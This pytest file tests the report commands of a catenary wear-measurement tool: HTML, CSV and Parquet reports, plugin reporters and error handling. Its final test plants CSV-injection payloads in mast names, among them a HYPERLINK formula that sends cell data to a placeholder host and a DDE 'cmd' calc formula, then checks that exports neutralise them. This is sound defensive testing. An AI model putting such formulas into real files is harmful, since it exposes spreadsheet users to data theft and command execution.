"""``catenary report``: the built-in reporters end to end, and a third party's by name."""

from __future__ import annotations

import csv
import itertools
import re
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import create_engine, select, update
from sqlalchemy.orm import Session

from catenary.cli import cli
from catenary.measurement.spans import SPAN_COLUMNS
from catenary.storage.models import Alert, Mast, SpanMeasurement
from catenary_reports.linear_events import MEASURES

CSV_ROUNDING = 0.0005
"""CSV rounds millimetres and metres to 0.001 (FORMATS.md, "Exports"); Parquet keeps them."""

pytestmark = pytest.mark.slow


def invoke(*args: object) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


class Page(HTMLParser):
    """What a report page holds: ids, the rows of each table, every resource address."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.ids: set[str] = set()
        self.tables: dict[str, list[list[str]]] = {}
        self.addresses: list[str] = []
        self.svgs = 0
        self.headings: list[str] = []
        self._table: str | None = None
        self._cell: list[str] | None = None
        self._heading: list[str] | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if values.get("id"):
            self.ids.add(values["id"] or "")
        for name in ("src", "href", "xlink:href"):
            if values.get(name):
                self.addresses.append(values[name] or "")
        if tag == "svg":
            self.svgs += 1
        elif tag == "table":
            self._table = values.get("id") or f"table-{len(self.tables)}"
            self.tables[self._table] = []
        elif tag == "tr" and self._table is not None:
            self.tables[self._table].append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell = []
        elif tag in ("h2", "h3"):
            self._heading = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table is not None:
            self.tables[self._table][-1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "table":
            self._table = None
        elif tag in ("h2", "h3") and self._heading is not None:
            self.headings.append("".join(self._heading).strip())
            self._heading = None

    def handle_data(self, data: str) -> None:
        for part in (self._cell, self._heading):
            if part is not None:
                part.append(data)

    def body(self, table: str) -> list[list[str]]:
        """The table's rows without its header row."""
        return self.tables[table][1:]


def one_line_error(result: Result) -> str:
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def report(database: str, *args: object) -> Result:
    return invoke("--db", database, "report", *args)


def spans_of(database: str, run: int) -> list[SpanMeasurement]:
    with Session(create_engine(database)) as session:
        return list(
            session.scalars(
                select(SpanMeasurement)
                .where(SpanMeasurement.run_id == run)
                .order_by(SpanMeasurement.span, SpanMeasurement.wire)
            )
        )


def self_contained(text: str, page: Page) -> None:
    assert page.addresses == [] or all(a.startswith(("#", "data:")) for a in page.addresses)
    assert "<script" not in text and "@import" not in text
    assert not re.search(r"url\(\s*['\"]?(?!#)", text)


# -- the CLI ---------------------------------------------------------------------------------


def test_list_shows_the_built_in_reporters(database: str) -> None:
    result = report(database, "--list")
    assert result.exit_code == 0, result.output
    for name in ("run", "maintenance", "linear-events", "repeatability"):
        assert re.search(rf"^{name}  \(plugin reports\)$", result.output, re.M), result.output


def test_unknown_reporter_and_missing_output_are_refused(database: str, tmp_path: Path) -> None:
    message = one_line_error(report(database, "nonesuch", "-o", tmp_path / "x.html"))
    assert "unknown reporter 'nonesuch'" in message and "linear-events" in message
    missing = report(database, "run", "1")
    assert missing.exit_code == 2 and "-o/--output" in missing.output
    alone = report(database, "maintenance", "--track", "1", "-o", tmp_path / "m.html")
    assert alone.exit_code == 2 and "--track needs --line" in alone.output


FAKE_PLUGIN = """
from pathlib import Path

from catenary.plugins import hookimpl
from catenary.plugins.types import Reporter


def write(request, output):
    if request.options.get("fail"):
        raise RuntimeError("the fake reporter broke")
    text = f"runs={','.join(request.runs)} line={request.line} {dict(request.options)}"
    Path(output).write_text(text)
    return Path(output)


@hookimpl
def catenary_reporters():
    return [Reporter(name="fake", description="a third party's report", write=write)]
"""


def test_a_third_party_reporter_is_found_by_entry_point_and_run_by_name(
    database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    (site / "fake_reports-1.0.dist-info").mkdir(parents=True)
    (site / "fake_reports-1.0.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: fake-reports\nVersion: 1.0\n"
    )
    (site / "fake_reports-1.0.dist-info" / "entry_points.txt").write_text(
        "[catenary.plugins]\nfake = fake_reports\n"
    )
    (site / "fake_reports.py").write_text(textwrap.dedent(FAKE_PLUGIN))
    monkeypatch.syspath_prepend(str(site))
    listed = report(database, "--list")
    assert "fake  (plugin fake)" in listed.output and "a third party's report" in listed.output
    out = tmp_path / "fake.txt"
    result = report(database, "fake", "7", "--latest", "--line", "L1", "--set", "k=v", "-o", out)
    assert result.exit_code == 0, result.output
    assert result.output.strip() == f"fake report written to {out}"
    assert out.read_text() == "runs=7,latest line=L1 {'k': 'v'}"
    broken = one_line_error(report(database, "fake", "--set", "fail=1", "-o", out))
    assert (
        "reporter 'fake' of plugin 'fake' failed: RuntimeError: the fake reporter broke" in broken
    )


# -- the run report --------------------------------------------------------------------------


def test_run_report_holds_facts_plots_exceedances_and_every_span(
    database: str, config: Path, tmp_path: Path
) -> None:
    out = tmp_path / "run.html"
    result = invoke("--config", config, "--db", database, "report", "run", "1", "-o", out)
    assert result.exit_code == 0, result.output
    text = out.read_text()
    page = Page(text)
    self_contained(text, page)
    facts = {row[0]: row[1] for row in page.tables["facts"]}
    assert facts["Line"] == "demo-line" and facts["Track"] == "1"
    assert facts["Direction"] == "increasing chainage" and facts["Vehicle"] == "demo-rig"
    assert facts["Rig calibration"].startswith("rig version 1 (SHA-256 ")
    assert facts["Chainage"].startswith("12000.0 to 1225")
    assert "cut at the mast register's masts" in facts["Spans"]
    assert facts["Wear-limit policy"].startswith("test-limits")
    # one figure for 250 m, the masts along it, the limits drawn
    assert page.svgs == 1
    for label in ("12/01", "12/02", "12/03", "12/04", "12/05", "critical 10.60 mm"):
        assert f">{label}<" in text, label
    # every span and wire, and the exceedances, most severe first, each really met
    spans = spans_of(database, 1)
    rows = page.body("spans")
    assert len(rows) == len(spans)
    assert [r[1] for r in rows] == [f"{s.mast_from} to {s.mast_to}" for s in spans]
    order = {"critical": 2, "urgent": 1, "plan": 0}
    limits = {"critical": 10.6, "urgent": 11.0, "plan": 11.7}
    exceedances = page.body("exceedances")
    expected = [s for s in spans if s.min_residual_thickness_mm <= 11.7]
    assert len(exceedances) == len(expected) > 0
    levels = [r[0] for r in exceedances]
    assert levels == sorted(levels, key=order.__getitem__, reverse=True)
    assert levels[0] == "critical"
    for row in exceedances:
        assert float(row[6]) <= limits[row[0]]
        assert float(row[8]) == pytest.approx(limits[row[0]])


def test_run_report_without_a_policy_judges_by_the_standard_limits(
    database: str, tmp_path: Path
) -> None:
    """No [limits]: each wire type's standard limit, as alerts are evaluated out of the box."""
    out = tmp_path / "run.html"
    assert report(database, "run", "latest", "-o", out).exit_code == 0
    page = Page(out.read_text())
    assert "Limit exceedances" in page.headings and "Thinnest spans" not in page.headings
    assert "standard-limits" in out.read_text()


def test_run_report_splits_the_chainage_into_figures(database: str, tmp_path: Path) -> None:
    out = tmp_path / "run.html"
    result = report(database, "run", "1", "--set", "segment_m=100", "-o", out)
    assert result.exit_code == 0, result.output
    page = Page(out.read_text())
    assert page.svgs == 3
    assert sum(h.startswith("Chainage ") for h in page.headings) == 3


def test_run_report_has_contents_and_print_styles(database: str, tmp_path: Path) -> None:
    out = tmp_path / "run.html"
    result = report(database, "run", "1", "--set", "segment_m=100", "-o", out)
    assert result.exit_code == 0, result.output
    text = out.read_text()
    page = Page(text)
    # the contents link every section, in order, and each figure under its section
    nav = text[text.index('<nav class="contents"') : text.index("</nav>")]
    links = Page(nav).addresses
    assert links == [
        "#run",
        "#plots",
        "#plot-1",
        "#plot-2",
        "#plot-3",
        "#exceedance",
        "#evidence",
        "#previous-run",
        "#span-table",
    ]
    assert all(link[1:] in page.ids for link in links)
    assert text.index('id="contents"') < text.index('<section id="run">')
    # in print: each section after the first on a new page, figures whole, no navigation
    media = text[text.index("@media print") :]
    assert "main > section + section { break-before: page; }" in media
    assert re.search(r"figure, [^{]*\{ break-inside: avoid; \}", media)
    assert "nav.contents { display: none; }" in media


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_run_report_table_is_the_span_export_with_its_limit(
    database: str, config: Path, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"run{suffix}"
    result = invoke("--config", config, "--db", database, "report", "run", "1", "-o", out)
    assert result.exit_code == 0, result.output
    table = pq.read_table(out) if suffix == ".parquet" else None
    if table is not None:
        rows = table.to_pylist()
    else:
        with out.open() as handle:
            rows = list(csv.DictReader(handle))
    extra = ["limit_policy", "limit_level", "limit_residual_thickness_mm", "limit_action"]
    assert list(rows[0]) == [*SPAN_COLUMNS, *extra]
    rounding = CSV_ROUNDING if table is None else 0.0
    spans = spans_of(database, 1)
    assert len(rows) == len(spans)
    for row, span in zip(rows, spans, strict=True):
        minimum = span.min_residual_thickness_mm
        level = "critical" if minimum <= 10.6 else "urgent" if minimum <= 11.0 else "plan"
        assert (row["limit_level"] or None) == (level if minimum <= 11.7 else None)
        assert float(row["min_residual_thickness_mm"]) == pytest.approx(minimum, abs=rounding)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["99"], "no run 99 in the database"),
        ([], "reporter 'run' takes 1 RUN, not 0"),
        (["1", "2"], "reporter 'run' takes 1 RUN, not 2 (1 2)"),
        (["1", "--line", "demo-line"], "reporter 'run' takes no --line or --track"),
        (["1", "--set", "segment=5"], "unknown option 'segment' (known: segment_m)"),
        (["1", "--set", "segment_m=-1"], "option segment_m = '-1' is outside 50 to 1000000 m"),
        (["1", "--set", "segment_m=0.01"], "option segment_m = '0.01' is outside 50 to 1000000 m"),
        (["1", "--set", "segment_m=nan"], "option segment_m = 'nan' is outside 50 to 1000000 m"),
        (["1", "--set", "segment_m"], "--set 'segment_m': expected KEY=VALUE"),
        (["1", "--policy", "nonesuch"], "unknown policy 'nonesuch'"),
    ],
)
def test_run_report_refuses_bad_requests_in_one_line_and_keeps_the_old_file(
    database: str, tmp_path: Path, args: list[str], expected: str
) -> None:
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "run.html"
    out.write_text("the previous report")
    assert expected in one_line_error(report(database, "run", *args, "-o", out))
    assert out.read_text() == "the previous report"
    assert [p.name for p in out.parent.iterdir()] == ["run.html"]


def test_a_bad_suffix_is_refused(database: str, tmp_path: Path) -> None:
    message = one_line_error(report(database, "run", "1", "-o", tmp_path / "run.pdf"))
    assert "run.pdf: the output's suffix must be .html, .csv, .xlsx or .parquet" in message
    missing = tmp_path / "missing" / "run.html"
    assert f"{missing}: no folder {missing.parent}" in one_line_error(
        report(database, "run", "1", "-o", missing)
    )


# -- the maintenance report ------------------------------------------------------------------


def test_maintenance_report_orders_alerts_forecasts_and_visits(alerts: str, tmp_path: Path) -> None:
    database = alerts
    with Session(create_engine(database)) as session:  # a tensioning length ends at 12/04
        session.execute(update(Mast).values(anchor_section="A1"))
        session.execute(update(Mast).where(Mast.chainage_m >= 12167.0).values(anchor_section="A2"))
        session.commit()
    out = tmp_path / "plan.html"
    result = report(database, "maintenance", "--line", "demo-line", "-o", out)
    assert result.exit_code == 0, result.output
    text = out.read_text()
    page = Page(text)
    self_contained(text, page)
    assert [r[0] for r in page.body("alerts-critical")] == ["1"]
    assert [r[0] for r in page.body("alerts-urgent")] == ["2"]
    assert [r[0] for r in page.body("alerts-plan")] == ["3", "4"]  # 5 is resolved
    assert "acknowledged by J. Ng" in page.body("alerts-urgent")[0]
    forecasts = page.body("forecasts")
    assert [r[0] for r in forecasts] == ["2026-09-15", "2027-03-01"]
    assert forecasts[0][1] == "2026-01-10 to 2028-02-20" and forecasts[0][8] == "0.120"
    visits = page.body("visits")
    assert [(r[4], r[5], r[6]) for r in visits] == [
        ("masts 12/01 to 12/02", "0", "plan"),
        ("masts 12/02 to 12/03", "0", "critical"),
        ("masts 12/03 to 12/04", "0", "urgent"),
        ("masts 12/03 to 12/04", "1", "plan"),
    ]
    hot = [r[10] for r in visits]
    assert "registration point at mast 12/03" in hot[1] and "overlap" in hot[1]
    assert "splice at 12140.0 m (spliced 2024-05-02)" in hot[2]
    assert "splice" not in hot[3]  # the splice is on wire 0
    assert "anchor-section change at mast 12/04 (A1 to A2)" in hot[3]
    assert "overlap" not in hot[0]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_maintenance_table_is_the_visits(alerts: str, tmp_path: Path, suffix: str) -> None:
    database = alerts
    out = tmp_path / f"plan{suffix}"
    assert report(database, "maintenance", "-o", out).exit_code == 0
    if suffix == ".parquet":
        rows = pq.read_table(out).to_pylist()
    else:
        with out.open() as handle:
            rows = list(csv.DictReader(handle))
    assert [(r["mast_from"], str(r["wire_position"]), r["level"]) for r in rows] == [
        ("12/01", "0", "plan"),
        ("12/02", "0", "critical"),
        ("12/03", "0", "urgent"),
        ("12/03", "1", "plan"),
    ]
    assert [r["forecast_date"] or None for r in rows] == ["2027-03-01", None, None, "2026-09-15"]
    assert float(rows[1]["value_mm"]) < 10.6 and rows[2]["status"] == "acknowledged"


def test_maintenance_report_names_unknown_lines_and_tracks(database: str, tmp_path: Path) -> None:
    out = tmp_path / "plan.html"
    message = one_line_error(report(database, "maintenance", "--line", "L9", "-o", out))
    assert "no line 'L9' in the database (known: demo-line)" in message
    message = one_line_error(
        report(database, "maintenance", "--line", "demo-line", "--track", "9", "-o", out)
    )
    assert "line 'demo-line' has no track '9' (known: 1)" in message
    empty = report(database, "maintenance", "--line", "demo-line", "-o", out)
    assert empty.exit_code == 0 and "Nothing to visit: no open alert." in out.read_text()


# -- linear events ---------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_linear_events_one_row_per_span_wire_and_measure(
    database: str, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"events{suffix}"
    assert report(database, "linear-events", "--run", "1", "-o", out).exit_code == 0
    table = pq.read_table(out) if suffix == ".parquet" else None
    if table is not None:
        rows = table.to_pylist()
    else:
        with out.open() as handle:
            rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [
        "line", "track", "from_m", "to_m", "from_marker", "to_marker", "wire", "wire_position",
        "wire_type", "measure", "value", "unit", "at_m", "run_id", "date",
    ]  # fmt: skip
    spans = sorted(spans_of(database, 1), key=lambda s: (s.start_chainage_m, s.wire))
    assert len(rows) == len(spans) * len(MEASURES)
    rounding = CSV_ROUNDING if table is None else 0.0
    for i, span in enumerate(spans):
        for j, (measure, unit) in enumerate(MEASURES):
            row = rows[i * len(MEASURES) + j]
            assert (row["line"], row["track"], row["measure"], row["unit"]) == (
                "demo-line", "1", measure, unit,
            )  # fmt: skip
            assert (row["from_marker"], row["to_marker"]) == (span.mast_from, span.mast_to)
            assert float(row["from_m"]) == pytest.approx(span.start_chainage_m, abs=rounding)
            assert float(row["value"]) == pytest.approx(getattr(span, measure), abs=rounding)
            assert str(row["run_id"]) == "1" and row["date"] == "2024-06-12"
            at = row["at_m"] if row["at_m"] not in ("", None) else None
            if measure == "min_residual_thickness_mm":
                assert float(at) == pytest.approx(span.min_at_chainage_m, abs=rounding)
            else:
                assert at is None


def test_linear_events_default_to_the_latest_run_of_each_track(
    database: str, tmp_path: Path
) -> None:
    out = tmp_path / "events.csv"
    assert report(database, "linear-events", "--line", "demo-line", "-o", out).exit_code == 0
    with out.open() as handle:
        runs = {row["run_id"] for row in csv.DictReader(handle)}
    assert runs == {"2"}  # same date as run 1: the later processed
    message = one_line_error(report(database, "linear-events", "--line", "L9", "-o", out))
    assert "no complete run on line 'L9' in the database" in message
    message = one_line_error(report(database, "linear-events", "1", "--line", "L9", "-o", out))
    assert "run 1 is on line 'demo-line' track '1', not line 'L9'" in message
    message = one_line_error(report(database, "linear-events", "-o", tmp_path / "e.html"))
    assert "must be .csv, .xlsx or .parquet" in message


# -- repeatability ---------------------------------------------------------------------------


def test_repeatability_report_and_its_histogram(database: str, tmp_path: Path) -> None:
    out = tmp_path / "repeat.html"
    assert report(database, "repeatability", "1", "2", "-o", out).exit_code == 0
    text = out.read_text()
    page = Page(text)
    self_contained(text, page)
    assert page.svgs == 2
    result = {row[0]: row[1] for row in page.tables["result"]}
    share = float(result["Within tolerance"].split()[0])
    assert share >= 95.0  # the paper: more than 90 % within 0.1 mm
    points = int(result["Points compared"].split()[0])
    histogram = tmp_path / "histogram.csv"
    args = ("repeatability", "1", "2", "--set", "bin_mm=0.05", "-o", histogram)
    assert report(database, *args).exit_code == 0
    with histogram.open() as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["from_mm", "to_mm", "count", "share"]
    assert sum(int(r["count"]) for r in rows) == points
    assert sum(float(r["share"]) for r in rows) == pytest.approx(1.0)
    for left, right in itertools.pairwise(rows):
        assert float(left["to_mm"]) == pytest.approx(float(right["from_mm"]))
        assert float(left["to_mm"]) - float(left["from_mm"]) == pytest.approx(0.05)
    message = one_line_error(report(database, "repeatability", "1", "-o", out))
    assert "reporter 'repeatability' takes 2 RUNs, not 1 (1)" in message


# -- CSV for spreadsheets --------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"c")',  # a mast code holds 32 characters
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-x",
    "\tM01",
    "\rM02",
)
"""Mast names a spreadsheet would evaluate (OWASP's CSV injection)."""


def test_every_csv_neutralises_what_a_spreadsheet_would_evaluate(
    alerts: str, tmp_path: Path
) -> None:
    database = alerts
    with Session(create_engine(database)) as session:
        codes = sorted(session.scalars(select(Mast.code)))[: len(HOSTILE)]
        for old, new in zip(codes, HOSTILE, strict=True):
            session.execute(update(Mast).where(Mast.code == old).values(code=new))
            for model in (SpanMeasurement, Alert):
                session.execute(update(model).where(model.mast_from == old).values(mast_from=new))
                session.execute(update(model).where(model.mast_to == old).values(mast_to=new))
        session.commit()
    written = {
        "export": ("--db", database, "export", "1", "--what", "spans"),
        "run": ("--db", database, "report", "run", "1"),
        "maintenance": ("--db", database, "report", "maintenance"),
        "linear-events": ("--db", database, "report", "linear-events", "--run", "1"),
        "repeatability": ("--db", database, "report", "repeatability", "1", "2"),
    }
    for name, args in written.items():
        out = tmp_path / f"{name}.csv"
        result = invoke(*args, "-o", out)
        assert result.exit_code == 0, result.output
        with out.open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        cells = {cell for row in rows for cell in row.values()}
        named = {c for c in cells if c.lstrip("'") in HOSTILE}
        if name != "repeatability":  # a histogram: numbers only
            assert named and all(c.startswith("'") for c in named), (name, named)
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # a number, never a formula
